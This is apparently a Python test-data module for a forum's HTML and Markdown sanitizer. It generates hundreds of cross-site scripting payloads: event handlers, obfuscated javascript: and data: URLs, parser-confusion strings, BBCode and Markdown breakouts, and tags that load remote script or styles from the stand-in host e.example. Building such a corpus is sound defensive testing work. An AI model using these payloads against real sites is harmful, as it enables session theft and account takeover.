"""The published ways to run a script through a forum's posts, by family: elements, schemes, parsers, Markdown.

Each is a fact about browsers or parsers, written down here in a form of our own; `alert(1)` is what must not run and
`e.example` what must not be asked. See payloads.py for those that were written by hand.
"""

from __future__ import annotations

import base64

from tests.forum.cooking.payloads import PAYLOADS

# Every content attribute that takes a script, with an element on which it fires by itself or at a touch.
_EVENTS = {
    "body": """afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online
        pagehide pageshow popstate resize rejectionhandled storage unhandledrejection unload load error
        blur focus scroll""",
    "img src=x": "load error abort loadstart",
    "video src=x autoplay": """canplay canplaythrough cuechange durationchange emptied ended error loadeddata
        loadedmetadata loadend loadstart pause play playing progress ratechange seeked seeking stalled suspend
        timeupdate volumechange waiting encrypted enterpictureinpicture leavepictureinpicture""",
    "audio src=x autoplay": "canplay error loadstart play stalled",
    "a href=#x tabindex=1": """click dblclick auxclick contextmenu mousedown mouseenter mouseleave mousemove mouseout
        mouseover mouseup wheel mousewheel focus focusin focusout blur keydown keypress keyup copy cut paste beforecopy
        beforecut beforepaste""",
    "div contenteditable": """beforeinput input drag dragend dragenter dragleave dragover dragstart drop pointerdown
        pointerup pointermove pointerover pointerout pointerenter pointerleave pointercancel gotpointercapture
        lostpointercapture pointerrawupdate selectstart selectionchange touchstart touchend touchmove touchcancel scroll
        scrollend scrollsnapchange scrollsnapchanging fullscreenchange fullscreenerror securitypolicyviolation
        beforexrselect contentvisibilityautostatechange beforematch""",
    "div style='animation:x 1s;transition:all 1s'": """animationstart animationend animationiteration animationcancel
        transitionend transitionrun transitionstart transitioncancel webkitanimationend webkitanimationstart
        webkitanimationiteration webkittransitionend""",
    "details open": "toggle beforetoggle",
    "div popover": "beforetoggle toggle command",
    "dialog open": "cancel close",
    "input autofocus": "focus change input invalid search select show reset",
    "form": "submit reset formdata",
    "slot": "slotchange",
    "marquee": "start bounce finish",
    "svg": "load begin end repeat error resize scroll",
    "svg/onx=": "load",
    "isindex": "click",
    "object data=x": "error load readystatechange",
    "embed src=x": "load",
    "link rel=stylesheet href=x": "load error",
    "style": "load error",
    "track src=x": "load error cuechange",
    "summary": "click auxclick",
    "xss": "click pointerover focus",
}
EVENTS = tuple(f"<{tag} on{name}=alert(1)>x" for tag, names in _EVENTS.items() for name in names.split())

_CODE = "alert(1)"
_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()
ADDRESSES = (
    f"javascript:{_CODE}",
    f"JAVASCRIPT:{_CODE}",
    f"jAvAsCrIpT:{_CODE}",
    f" javascript:{_CODE}",
    f"\x01javascript:{_CODE}",
    f"\x1fjavascript:{_CODE}",
    f"\u2003javascript:{_CODE}",
    f"java\tscript:{_CODE}",
    f"java\x00script:{_CODE}",
    f"javascript\t:{_CODE}",
    f"java&Tab;script:{_CODE}",
    f"java&NewLine;script:{_CODE}",
    f"javascript&colon;{_CODE}",
    f"javascript&#58;{_CODE}",
    f"javascript&#x3a;{_CODE}",
    f"javascript&#0000058{_CODE}",
    f"&#106;&#97;&#118;&#97;script:{_CODE}",
    f"&#0000106avascript:{_CODE}",
    f"&#x6a&#x61&#x76&#x61script:{_CODE}",
    f"&#1;javascript:{_CODE}",
    f"&#14;  javascript:{_CODE}",
    f"javascript://e.example/%0a{_CODE}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{_CODE}//'>",
    f"%6A%61%76%61%73%63%72%69%70%74:{_CODE}",
    f"java%0ascript:{_CODE}",
    f"javascript:javascript:{_CODE}",
    f"feed:javascript:{_CODE}",
    f"view-source:javascript:{_CODE}",
    f"jar:javascript:{_CODE}",
    f"x-javascript:{_CODE}",
    f"livescript:{_CODE}",
    f"mocha:{_CODE}",
    f"vbscript:msgbox(1)//{_CODE}",
    f"data:text/html;base64,{_ENCODED}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"data:image/svg+xml;base64,{_ENCODED}",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "data:,alert(1)",
    "blob:null/1",
    "filesystem:https://e.example/x",
    "about:blank#alert(1)",
    "file:///etc/passwd",
)
_WRITTEN_IN = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<svg><a xlink:href="{}" href="{}"><text y=1em>x</text></a></svg>',
    '<object data="{}"></object><embed src="{}">',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "<{}>",
    "[url={}]x[/url]",
    "[url]{}[/url]",
    "[img]{}[/img]",
    "{}",
)
SCHEMES = tuple(context.replace("{}", address) for address in ADDRESSES for context in _WRITTEN_IN)

# What one parser takes for text and another for an element.
_NESTED = tuple(
    f"<{outer}><{inner} {attribute}='</{outer}><img src=x onerror=alert(1)>'>"
    for outer in (
        "style",
        "script",
        "noscript",
        "xmp",
        "title",
        "textarea",
        "template",
        "noembed",
        "noframes",
        "iframe",
        "plaintext",
        "svg><style",
        "math><style",
        "svg><title",
        "svg><desc",
        "math><annotation-xml",
        "select><style",
        "svg><foreignObject",
        "math><mtext",
        "table><caption><svg",
    )
    for inner, attribute in (("p", "title"), ("a", "id"), ("img", "alt"))
)
PARSERS = (
    *_NESTED,
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignobject><style><img src=x onerror=alert(1)></style></foreignobject></svg>",
    "<svg><desc><style></desc><img src=x onerror=alert(1)></style>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "<svg></p><style><g/title='</style><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><style></table><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-->--!><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=alert(1)>'>]>&a;",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=alert(1)>'></svg>",
    "<?xml version='1.0'><img src=x onerror=alert(1)>?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</br style=x onclick=alert(1)>x",
    "</p onclick=alert(1)>x",
    "<%<img src=x onerror=alert(1)>%>",
    "<//img src=x onerror=alert(1)>",
    "<img/src='x'onerror='alert(1)'/>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<img src=x:x onerror=alert`1`>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img \x00src=x onerror="alert(1)">',
    "<a\u3000href='javascript:alert(1)'>x</a>",
    "<ſcript>alert(1)</ſcript>",
    "<scrıpt>alert(1)</scrıpt>",
    "＜script＞alert(1)＜/script＞",
    "<script>alert(1)</script foo>",
    "<script x>alert(1)</script",
    "<script>alert(1)",
    "<svg><script xlink:href=//e.example/x></script>",
    "<svg><script>a&#x6c;ert(1)</script>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text>x",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect width=100 height=100 /></a>",
    "<svg><animateTransform onbegin=alert(1)>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><feImage href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype='statusline#http://e.example' xlink:href=javascript:alert(1)>x",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<portal src=javascript:alert(1)></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<layer src=//e.example/x.js></layer>",
    "<bgsound src=javascript:alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<img src=x usemap=#m><map name=m><area shape=default href=javascript:alert(1)></map>",
    "<button popovertarget=x>b</button><div popover id=x onbeforetoggle=alert(1)>x",
    "<a href=/x ping=//e.example/ping download>x</a>",
    "<div is=x-y slot=z part=w itemprop=q accesskey=x onclick=alert(1)>x</div>",
)
LOADERS = (
    "<link rel=stylesheet href=//e.example/x.css>", "<link rel=prefetch href=//e.example/x>",
    "<link rel=preload as=script href=//e.example/x>", "<link rel=dns-prefetch href=//e.example>",
    "<link rel=icon href=//e.example/x>", "<link rel=import href=//e.example/x>",
    "<link rel=manifest href=//e.example/x>",
    "<meta http-equiv=refresh content='0;url=//e.example'>", "<meta http-equiv=set-cookie content='a=b'>",
    "<meta http-equiv=content-security-policy content=\"script-src 'none'\">", "<base href=//e.example/>",
    "<script src=//e.example/x.js></script>", "<script type=module>import '//e.example/x'</script>",
    "<script type=importmap>{}</script>", "<script type=speculationrules>{}</script>",
    "<style>@import '//e.example/x.css'</style>", "<style>@font-face{font-family:x;src:url(//e.example/x)}</style>",
    "<style>*{background:url(//e.example/x)}</style>", "<style>li{list-style:url(//e.example/x)}</style>",
    "<div style=\"background:url(//e.example/x)\">x</div>", "<div style=\"background:u\\72l(//e.example/x)\">x</div>",
    "<div style=\"background-image:image-set('//e.example/x' 1x)\">x</div>",
    "<div style=\"color:red;background:/**/url(//e.example/x)\">x</div>",
    "<div style=\"cursor:url(//e.example/x),auto\">x</div>", "<div style=\"content:url(//e.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"xss:expr/*x*/ession(alert(1))\">x</div>",
    "<div style=\"behavior:url(//e.example/x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(//e.example/x#y)\">x</div>",
    "<div style=\"color:var(--x,url(//e.example/x))\">x</div>", "<div style=\"position:fixed;inset:0\">x</div>",
    "<table background=//e.example/x><td background=//e.example/y>x", "<body background=//e.example/x>",
    "<input type=image src=//e.example/x>", "<object data=//e.example/x></object>", "<embed src=//e.example/x>",
    "<applet archive=//e.example/x></applet>", "<frame src=//e.example/x>", "<iframe src=//e.example/x></iframe>",
    "<iframe srcdoc='<script src=//e.example/x></script>'></iframe>", "<portal src=//e.example/x></portal>",
    "<svg><image href=//e.example/x></svg>", "<svg><use href=//e.example/x#y></svg>",
    "<svg><style>@import '//e.example/x'</style></svg>", "<svg><feImage href=//e.example/x></svg>",
    "<math><mglyph src=//e.example/x></math>", "<track src=//e.example/x>", "<bgsound src=//e.example/x>",
    "<fencedframe src=//e.example/x></fencedframe>", "<img lowsrc=//e.example/x dynsrc=//e.example/y>",
    "<video><track src=//e.example/x default></video>", "<html manifest=//e.example/x>",
    "<form action=//e.example/x><input name=a value=b autofocus>", "<a href=/x ping=//e.example/x>x</a>",
    "<p data-wrap='</p><script src=//e.example/x></script>'>x</p>",
)  # fmt: skip
_BREAKS = (
    '"',
    "'",
    "&quot;",
    '\\"',
    "`",
    "\u201c",
    "\u2028",
    '">',
    "'>",
    "-->",
    "]]>",
    "</a>",
    "</code>",
    "</blockquote>",
)
_RUNS = ("onmouseover=alert(1) x=", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>")
_TAGS = (
    "[quote={}]\nx\n[/quote]", '[quote="{}, post:1, topic:2"]\nx\n[/quote]', "[details={}]\nx\n[/details]",
    "[code={}]\nx\n[/code]", "```{}\nx\n```", "[url=https://a.com/{}]x[/url]", "[img]https://a.com/{}.png[/img]",
    "[email]a@b.com{}[/email]", "[wrap={}]x[/wrap]", "[wrap=a id={}]\nx\n[/wrap]", "[grid mode={}]\nx\n[/grid]",
    "[poll name={}]\n- {}\n[/poll]", "[poll close=\"{}\"]\n# {}\n- x\n[/poll]", "[date=2024-05-01 format={}]",
    '[date=2024-05-01 time=10:00 timezone="{}"]', "[date-range from=2024-05-01 to={}]", "[^{}]\n\n[^{}]: x {}", "^[{}]",
    "![{}|1x1](/x.png)", "![x|video{}](/x.mp4)", '[x](/y "{}")', "[{}|attachment](upload://x.pdf)",
    "https://a.com/{}.png", "https://youtu.be/aaaaaaaaaaa?{}", "@sam{}", "#tag{}", ":smile:{}", "|a|{}|\n|-|-|\n|b|{}|",
    "- [x] {}", "<https://a.com/{}>", "https://a.com/{}.mp4",
)  # fmt: skip
TAGS = tuple(tag.replace("{}", end + run) for tag in _TAGS for end in _BREAKS for run in _RUNS)

FAMILIES = {
    "written by hand": PAYLOADS,
    "events": EVENTS,
    "schemes": SCHEMES,
    "parsers": PARSERS,
    "loaders": LOADERS,
    "Markdown and BBCode": TAGS,
}
EVERYTHING = tuple(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
